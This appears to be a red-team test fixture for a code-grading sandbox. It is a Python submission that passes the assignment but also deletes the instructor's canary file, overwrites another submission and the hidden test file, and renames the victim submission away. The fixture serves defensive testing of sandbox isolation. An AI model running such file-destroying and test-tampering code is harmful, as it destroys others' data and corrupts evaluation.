"""Red team: Deletes and rewrites files it does not own: the instructor's canary files, another
submission (rewritten, then renamed away), the hidden tests. Otherwise correct: full marks.

examples/correct.py goes where # __CORRECT_SOLUTION__ stands (tests/test_redteam.py
assembles it); the attack follows."""

# __CORRECT_SOLUTION__

import os

for _path in ("__CANARY_DIR__/secret.txt",):
    try:
        os.remove(_path)
    except OSError:
        pass
for _path in ["__CANARY_DIR__/important.txt", "__CORPUS_DIR__/a_victim.py",
              "__SOLUTIONS_DIR__/one_hidden_layer/tests.py"]:
    try:
        with open(_path, "w") as _handle:
            _handle.write("raise SystemExit('rewritten by delete_and_rewrite_files')\n")
    except OSError:
        pass
try:
    os.rename("__CORPUS_DIR__/a_victim.py", "__CORPUS_DIR__/a_victim.py.gone")
except OSError:
    pass
